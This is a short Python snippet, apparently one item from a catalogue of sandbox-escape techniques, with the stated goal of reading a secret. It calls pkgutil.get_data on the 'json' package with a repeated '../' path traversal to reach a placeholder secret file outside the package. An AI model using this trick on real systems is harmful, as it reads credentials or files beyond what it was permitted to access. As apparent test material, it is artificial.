# technique: a loader's get_data reads any file, as if it were package data
# goal: read-secret
# source: standard library
import pkgutil
print(pkgutil.get_data('json', '../' * 20 + '@SECRET@'))
